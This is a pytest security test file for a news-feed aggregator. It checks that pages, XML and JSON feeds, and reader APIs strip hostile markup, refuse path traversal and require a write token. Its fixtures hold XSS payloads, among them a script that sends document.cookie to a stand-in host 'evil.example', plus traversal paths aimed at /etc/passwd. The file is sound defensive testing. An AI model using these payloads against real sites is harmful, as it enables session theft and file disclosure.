"""Hostile feeds against the web face: XSS in titles, names, links and content must not
survive into pages or feeds; writes need the token; no path leaves the static folder."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlencode

import feedparser
import pytest
from starlette.testclient import TestClient

from aggregator.config import settings_from_mapping
from aggregator.ingest.pipeline import Pipeline
from aggregator.publish.accounts import digest, fever_api_key, hash_password
from aggregator.publish.app import create_app
from aggregator.storage import Storage
from aggregator.types import CleanItem, FeedSpec
from tests.helpers import web_client

ATOM = "http://www.w3.org/2005/Atom"
EVIL_TITLE = 'Evil <script>alert("t")</script><img src=x onerror=alert(1)> "title"'
EVIL_NAME = '<b onmouseover=alert(2)>Evil Feed</b><script>alert("n")</script>'
EVIL_LINK = "javascript:alert(3)//https://evil.example/story"
EVIL_HTML = (
    '<p onclick="alert(4)">A harbour crane collapsed on Tuesday, injuring no one but '
    "closing the port for a day while engineers inspected the other cranes.</p>"
    '<script>document.location="https://evil.example/?c="+document.cookie</script>'
    '<p><a href="javascript:alert(5)">click</a> <img src="x" onerror="alert(6)">'
    '<iframe src="https://evil.example/"></iframe><svg onload="alert(7)"></svg>'
    '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a></p>'
    "<style>body{display:none}</style>"
)
EVIL_TEXT = (
    "A harbour crane collapsed on Tuesday, injuring no one but closing the port for a "
    "day while engineers inspected the other cranes.\nclick"
)


class _Markup(HTMLParser):
    """Every element and attribute of an HTML document, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend((name, value or "") for name, value in attrs)


def assert_harmless(document: str) -> None:
    markup = _Markup()
    markup.feed(document)
    assert not {"script", "iframe", "svg", "object", "embed"} & set(markup.tags), markup.tags
    assert not [name for name, _ in markup.attrs if name.startswith("on")]
    for name, value in markup.attrs:
        if name in ("href", "src", "action", "formaction"):
            assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:"))
    assert "style" not in markup.tags


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, int]]:
    """Two hostile feeds carrying one story, stored as a feed would have sent it (the
    ingest sanitiser bypassed: the output must be safe on its own)."""
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'a.db'}"
    storage = Storage(url)
    storage.upgrade()
    published = datetime(2026, 11, 20, 8, tzinfo=UTC)
    for n in (1, 2):
        feed, _ = storage.add_feed(
            FeedSpec(
                url=f"https://evil{n}.example/feed.xml", name=f"{EVIL_NAME} {n}", group="<i>grp</i>"
            )
        )
        storage.save_items(
            feed.id,
            [
                CleanItem(
                    entry_id=f"evil-{n}",
                    guid=f"evil-{n}",
                    link=EVIL_LINK,
                    canonical_link=EVIL_LINK,
                    title=f"{EVIL_TITLE} {n}",
                    author='<script>alert("a")</script>',
                    published=published,
                    updated=None,
                    content_html=EVIL_HTML,
                    text=EVIL_TEXT,
                    is_summary=False,
                    revision=f"r{n}",
                )
            ],
        )
    settings = settings_from_mapping({"database": url}, None)
    Pipeline(storage, settings).start()  # decides the stored items: one cluster
    storage.add_reader(  # a reader-app user, for the Google Reader and Fever APIs
        "reader", hash_password("reader-pw"), digest(fever_api_key("reader", "reader-pw"))
    )
    clusters = storage.list_clusters(min_size=2)
    assert len(clusters) == 1
    with web_client(create_app(storage, settings)) as client:
        yield client, clusters[0].id


@pytest.mark.parametrize("page", ["/clusters", "/clusters?all=1", "/clusters/{id}", "/feeds"])
def test_pages_escape_what_feeds_supply(hostile: tuple[TestClient, int], page: str) -> None:
    client, cluster_id = hostile
    response = client.get(page.format(id=cluster_id))
    assert response.status_code == 200
    assert_harmless(response.text)
    # The hostile strings are shown, as text.
    assert "&lt;script&gt;" in response.text
    assert "Evil Feed" in response.text


@pytest.mark.parametrize("path", ["/feed.rss", "/feed.atom"])
def test_xml_feeds_carry_no_live_markup(hostile: tuple[TestClient, int], path: str) -> None:
    client, _ = hostile
    body = client.get(path).content
    assert b"javascript:" not in body  # the hostile link is dropped, not escaped
    parsed = feedparser.parse(body)
    assert parsed.bozo == 0 and len(parsed.entries) == 1
    entry = parsed.entries[0]
    # What a reader renders as HTML: the content we wrote (read raw, not feedparser's
    # own sanitised version, so our sanitiser is what is tested).
    root = ET.fromstring(body)
    entries = [el for el in root.iter() if el.tag in ("item", f"{{{ATOM}}}entry")]
    contents = [
        el.text or ""
        for entry_el in entries
        for el in entry_el
        if el.tag in ("description", f"{{{ATOM}}}content")
    ]
    assert contents and all(contents)
    for content in contents:
        assert_harmless(content)
        assert "harbour crane collapsed" in content
        assert "Also published by" in content
    assert "link" not in entry or not entry.link.startswith("javascript")


def test_json_feed_carries_no_live_markup(hostile: tuple[TestClient, int]) -> None:
    client, _ = hostile
    response = client.get("/feed.json")
    assert "javascript:" not in response.text
    item = json.loads(response.text)["items"][0]
    assert_harmless(item["content_html"])
    assert "url" not in item  # the only link was javascript:
    assert all(copy["link"] is None for copy in item["_aggregator"]["copies"])


def test_reader_apis_carry_no_live_markup(hostile: tuple[TestClient, int]) -> None:
    """What reader apps render as HTML: the Google Reader API's ``summary.content``
    (``stream/contents``, ``stream/items/contents``) and the Fever API's ``html``; the
    links they open: ``alternate``, ``canonical``, ``origin.htmlUrl`` and Fever's ``url``."""
    client, _ = hostile
    login = client.post(
        "/api/greader/accounts/ClientLogin", data={"Email": "reader", "Passwd": "reader-pw"}
    )
    auth = dict(line.split("=", 1) for line in login.text.splitlines())["Auth"]
    headers = {"Authorization": f"GoogleLogin auth={auth}"}
    api = "/api/greader/reader/api/0"
    stream = client.get(
        f"{api}/stream/contents/user/-/state/com.google/reading-list", headers=headers
    )
    ids = [("i", i["id"]) for i in stream.json()["items"]]
    by_id = client.post(
        f"{api}/stream/items/contents",
        content=urlencode(ids),
        headers={**headers, "Content-Type": "application/x-www-form-urlencoded"},
    )
    fever = client.post(
        "/api/fever/?api&items", data={"api_key": fever_api_key("reader", "reader-pw")}
    )
    for response in (stream, by_id, fever):
        assert response.status_code == 200, response.text
        assert "javascript:" not in response.text  # dropped from content and links
        assert "data:text/html" not in response.text
    greader_items = stream.json()["items"] + by_id.json()["items"]
    fever_items = fever.json()["items"]
    assert len(stream.json()["items"]) == len(by_id.json()["items"]) == len(fever_items) == 1
    for html in [i["summary"]["content"] for i in greader_items] + [i["html"] for i in fever_items]:
        assert_harmless(html)
        assert "harbour crane collapsed" in html  # the story is kept, its markup not
        assert "onclick" not in html and "<script" not in html
    for item in greader_items:
        links = [*item["alternate"], *item["canonical"]]
        assert all(not link["href"].lower().startswith("javascript") for link in links)
        assert item["origin"]["htmlUrl"].startswith("https://")
    assert fever_items[0]["url"] == ""  # the only link was javascript:


def test_every_response_forbids_scripts_and_framing(hostile: tuple[TestClient, int]) -> None:
    client, cluster_id = hostile
    for path in ("/clusters", f"/clusters/{cluster_id}", "/feed.rss", "/api/clusters"):
        headers = client.get(path).headers
        assert "default-src 'none'" in headers["content-security-policy"]
        assert "script-src" not in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize(
    "path",
    [
        "/static/../app.py",
        "/static/%2e%2e/app.py",
        "/static/..%2fapp.py",
        "/static/%2e%2e/%2e%2e/storage/store.py",
        "/static//etc/passwd",
        "/static/../../../etc/passwd",
        "/clusters/../../etc/passwd",
        "/static/style.css/..%2f..%2fapp.py",
    ],
)
def test_no_directory_traversal(hostile: tuple[TestClient, int], path: str) -> None:
    client, _ = hostile
    response = client.get(path)
    assert response.status_code == 404
    assert "import" not in response.text and "root:" not in response.text
    assert client.get("/static/style.css").status_code == 200


def test_writes_are_refused_without_a_configured_token(hostile: tuple[TestClient, int]) -> None:
    client, cluster_id = hostile
    for url in ("/api/items/1/split", f"/api/clusters/{cluster_id}/merge/{cluster_id + 1}"):
        for headers in ({}, {"Authorization": "Bearer "}, {"Authorization": "Bearer x"}):
            response = client.post(url, headers=headers)
            assert response.status_code == 403
            assert "server.token" in response.json()["error"]["message"]
        assert client.get(url).status_code == 405


def test_writes_need_the_right_token(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'a.db'}"
    storage = Storage(url)
    storage.upgrade()
    settings = settings_from_mapping({"database": url, "server": {"token": "s3cret"}}, None)
    client = web_client(create_app(storage, settings))
    for headers in (
        {},
        {"Authorization": "Bearer wrong"},
        {"Authorization": "Basic s3cret"},
        {"Authorization": "s3cret"},
        {"Authorization": "Bearer s3cret2"},
    ):
        response = client.post("/api/items/1/split", headers=headers)
        assert response.status_code == 401, headers
        assert response.headers["www-authenticate"].startswith("Bearer")
    # With the token the request gets through to the data: there is no item 1 here.
    right = client.post("/api/items/1/split", headers={"Authorization": "Bearer s3cret"})
    assert right.status_code == 404 and right.json()["error"]["message"] == "no item 1"
